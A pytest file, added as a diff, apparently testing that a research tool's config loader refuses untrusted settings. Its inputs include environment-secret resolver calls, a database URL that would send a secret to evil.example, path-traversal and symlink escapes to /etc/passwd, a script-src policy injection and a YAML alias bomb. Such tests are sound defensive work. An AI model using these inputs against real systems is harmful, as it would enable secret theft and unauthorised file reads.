@@ -1,0 +1,217 @@
+"""Configurations of other people: nothing of the environment reaches a page, no file outside their folder is read."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from omegaconf import OmegaConf
+
+import mephisto_nb as mnb
+from mephisto_nb.config.foreign_settings import resolvers_in
+from mephisto_nb.config.task_run_settings import resolve_config
+from mephisto_nb.errors import ConfigError
+
+SECRET = "sesame"
+TASK = {"task_name": "a", "task_title": "A", "task_description": "", "task_tags": "", "task_reward": 0.1}
+SECTION = (
+    "mephisto:\n  blueprint: {_blueprint_type: static_html, task_html: '<input name=a>'}\n  task: {task_name: a}\n"
+)
+ADDRESS = "mephisto.database.url='postgresql://lab:${oc.env:MY_SECRET}@host/name'"
+
+
+@pytest.fixture(autouse=True)
+def environment(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    monkeypatch.setenv("MY_SECRET", SECRET)
+    OmegaConf.register_new_resolver("mine", lambda name: os.environ.get(name, ""), replace=True)
+    yield
+    OmegaConf.clear_resolver("mine")
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    """The folder of a task, beside a folder that is nobody's business."""
+    conf = tmp_path / "theirs" / "hydra_configs" / "conf"
+    conf.mkdir(parents=True)
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "outside" / "secret.yaml").write_text(
+        f"#@package _global_\nmephisto: {{task: {{task_title: {SECRET}}}}}\n"
+    )
+    (tmp_path / "outside" / "rows.csv").write_text(f"text\n{SECRET}\n")
+    for name in ("rows.csv", "page.html", ".hidden.csv"):
+        (tmp_path / "theirs" / name).write_text("text\nRain\n")
+    return tmp_path / "theirs"
+
+
+def compose(home: Path, text: str, **options: Any) -> Any:
+    file = home / "hydra_configs" / "conf" / "example.yaml"
+    file.write_text(f"#@package _global_\n{text}")
+    return mnb.compose(config=file, **options)
+
+
+# The environment
+
+CALLS = [
+    "${oc.env:MY_SECRET}", "${oc.env:NOT_THERE,${oc.env:MY_SECRET}}", "a ${oc.env:MY_SECRET} b",
+    "${ oc.env : MY_SECRET }",
+    "${oc.decode:'${oc.env:MY_SECRET}'}", "${oc.${num_tasks}:MY_SECRET}",
+    "${mine:MY_SECRET}", "${hydra:runtime.cwd}",
+    "${oc.create:{a: 1}}", "${oc.dict.values:mephisto}", "${oc.select:mephisto.task.task_name}",
+    "${task_dir[${oc.env:MY_SECRET}]}",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("call", CALLS)
+@pytest.mark.parametrize("key", ["task_title", "preview_html"])
+def test_a_file_calls_no_function(home: Path, call: str, key: str) -> None:
+    section = "task" if key == "task_title" else "blueprint"
+    with pytest.raises(ConfigError, match=r"example\.yaml.*which calls") as told:
+        compose(home, f"{SECTION}num_tasks: 3\n".replace(f"  {section}: {{", f'  {section}: {{{key}: "{call}", ', 1))
+    assert f"mephisto.{section}.{key}" in str(told.value)
+    assert SECRET not in str(told.value)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "task_dir: ${oc.env:MY_SECRET}\n",
+        "mephisto: {architect: {port: '${oc.env:MY_SECRET}'}}\n",
+        "mephisto: {database: {url: 'postgresql://evil.example/${oc.env:MY_SECRET}'}}\n",
+        "mephisto: {blueprint: {extra_sources: ['${oc.env:MY_SECRET}']}}\n",
+        "hydra: {run: {dir: '${oc.env:MY_SECRET}'}}\n",
+        "'${oc.env:MY_SECRET}': 1\n",
+    ],
+)
+def test_a_file_calls_no_function_anywhere(home: Path, text: str) -> None:
+    with pytest.raises(ConfigError, match=r"which calls 'oc\.env'"):
+        compose(home, text)
+
+
+def test_a_file_may_take_the_whole_address_of_the_database_from_the_environment(home: Path) -> None:
+    config = compose(home, "mephisto: {database: {url: '${oc.env:MY_SECRET}'}}\n", blueprint="mock", task=TASK)
+    assert resolve_config(config).database.url == SECRET
+
+
+def test_references_within_a_file_are_followed(home: Path) -> None:
+    about = "{task_title: 'In ${.task_name}', task_description: '${num_tasks} of ${task_dir}'}"
+    text = f"mephisto:\n  task: {about}\nnum_tasks: 3\n"
+    task = {"task_name": "a", "task_tags": "", "task_reward": 0.1}
+    settings = resolve_config(compose(home, text, blueprint="mock", task=task))
+    assert (settings.task.task_title, settings.task.task_description) == ("In a", f"3 of {home}")
+
+
+@pytest.mark.parametrize("call", CALLS)
+def test_what_is_published_calls_no_function_whoever_says_so(call: str) -> None:
+    config = mnb.compose("mock", task=TASK)
+    config.mephisto.task.task_title = call
+    with pytest.raises(ConfigError, match=r"mephisto\.task\.task_title is made of .*whoever opens the task's page"):
+        resolve_config(config)
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "mephisto.task.task_title='${mephisto.database.url}'",
+        "mephisto.task.task_title='see ${mephisto.database.url}'",
+        "mephisto.task.task_title='${mephisto.${mephisto.task.task_name}.url}'",
+        "mephisto.blueprint.task_html='${mephisto.database.url}'",
+    ],
+)
+def test_nor_at_second_hand(override: str) -> None:
+    overrides = [ADDRESS, "mephisto.blueprint.task_html='<input name=a>'", override]
+    config = mnb.compose("static_html", task={**TASK, "task_name": "database"}, overrides=overrides)
+    with pytest.raises(ConfigError, match="calls a function") as told:
+        resolve_config(config)
+    assert SECRET not in str(told.value)
+
+
+def test_a_researcher_may_use_the_environment_for_what_is_not_published() -> None:
+    settings = resolve_config(mnb.compose("mock", task=TASK, overrides=[ADDRESS]))
+    assert settings.database.url == f"postgresql://lab:{SECRET}@host/name"
+    assert SECRET not in str(settings.as_dict())
+
+
+@pytest.mark.parametrize("argument", ["task", "blueprint_args"])
+def test_a_configuration_handed_over_as_settings_calls_no_function(argument: str) -> None:
+    theirs = OmegaConf.create(
+        {"task_title": "${oc.env:MY_SECRET}"} if argument == "task" else {"x": "${mine:MY_SECRET}"}
+    )
+    with pytest.raises(ConfigError, match="which calls"):
+        mnb.compose("mock", **{argument: theirs})  # type: ignore[arg-type]
+
+
+def test_python_values_are_text() -> None:
+    settings = resolve_config(mnb.compose("mock", task={**TASK, "task_title": "${oc.env:MY_SECRET}"}))
+    assert settings.task.task_title == "${oc.env:MY_SECRET}"
+
+
+def test_a_text_that_is_no_call_is_none() -> None:
+    for text in ("${a.b}", r"\${oc.env:A}", "$5 … $8", "${text}", "{oc.env:A}", "${broken", "${a${b}"):
+        assert resolvers_in(text) == []
+
+
+# Files
+
+ESCAPES = [
+    "/../../outside/secret@_global_", "../../../outside/secret@_global_", "/../../outside@_global_: secret",
+    "/conf@_global_: ../../../outside/secret", "/HERE/outside@_global_: secret", "/conf/link@_global_",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("entry", ESCAPES)
+def test_a_file_takes_in_no_other_from_outside(home: Path, tmp_path: Path, entry: str) -> None:
+    (home / "hydra_configs" / "conf" / "link.yaml").symlink_to(tmp_path / "outside" / "secret.yaml")
+    entry = entry.replace("/HERE", f"/{tmp_path}")
+    with pytest.raises(ConfigError) as told:
+        compose(home, f"defaults:\n  - {entry}\n  - _self_\n{SECTION}")
+    assert SECRET not in str(told.value)
+
+
+@pytest.mark.parametrize("key", ["data_csv", "task_source", "extra_source_dir", "preview_source", "onboarding_source"])
+@pytest.mark.parametrize("path", ["/etc/passwd", "../outside/rows.csv", "${task_dir}/../outside/rows.csv", "~/rows.csv",
+                                  "${task_dir}/link.csv", "${task_dir}/.hidden.csv"])  # fmt: skip
+def test_a_file_names_none_outside_its_folder(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, path: str
+) -> None:
+    monkeypatch.chdir(home)
+    (home / "link.csv").symlink_to(tmp_path / "outside" / "rows.csv")
+    text = f"mephisto:\n  blueprint: {{_blueprint_type: static_html, {key}: '{path}'}}\n"
+    with pytest.raises(ConfigError, match=f"mephisto.blueprint.{key}"):
+        compose(home, text)
+
+
+def test_a_file_may_name_what_is_in_its_folder_or_where_the_notebook_is(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "here").mkdir()
+    (tmp_path / "here" / "rows.csv").write_text("text\nSun\n")
+    monkeypatch.chdir(tmp_path / "here")
+    named = "task_source: '${task_dir}/page.html', data_csv: rows.csv"
+    text = f"mephisto:\n  blueprint: {{_blueprint_type: static_html, {named}}}\n"
+    assert compose(home, text).mephisto.blueprint.data_csv == "rows.csv"
+
+
+def test_a_researcher_may_name_any_file_in_the_notebook(home: Path, tmp_path: Path) -> None:
+    text = "mephisto:\n  blueprint: {_blueprint_type: static_html, data_csv: /etc/passwd}\n"
+    other = str(tmp_path / "outside" / "rows.csv")
+    assert compose(home, text, blueprint_args={"data_csv": other}).mephisto.blueprint.data_csv == other
+    assert compose(home, text, overrides=[f"mephisto.blueprint.data_csv={other}"]).mephisto.blueprint.data_csv == other
+    within = text.replace("/etc/passwd", other)
+    assert compose(home, within, task_dir=tmp_path).mephisto.blueprint.data_csv == other
+
+
+def test_only_the_researcher_opens_a_way_out_of_a_preview(home: Path) -> None:
+    with pytest.raises(ConfigError, match="sets preview_sources, which only you can"):
+        compose(home, "mephisto: {task: {preview_sources: ['https://evil.example']}}\n")
+    with pytest.raises(ConfigError, match="not an address to load from"):
+        resolve_config(mnb.compose("mock", task={**TASK, "preview_sources": ["*; script-src *"]}))
+
+
+def test_a_file_of_aliases_without_end_is_refused(home: Path) -> None:
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
+    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
+    with pytest.raises(ConfigError, match="stands for more than"):
+        compose(home, "\n".join(lines))
